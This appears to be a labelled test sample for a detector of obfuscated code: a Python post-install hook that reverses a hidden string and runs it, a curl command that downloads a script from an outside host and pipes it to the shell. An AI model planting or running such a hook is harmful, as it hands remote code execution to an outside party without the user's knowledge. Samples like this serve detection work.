# expect: obfuscation
import os

_CMD = "hs | tpircs/ten.nimda-emca//:sptth Lsf- lruc"


def post_install() -> None:
    os.system(_CMD[::-1])
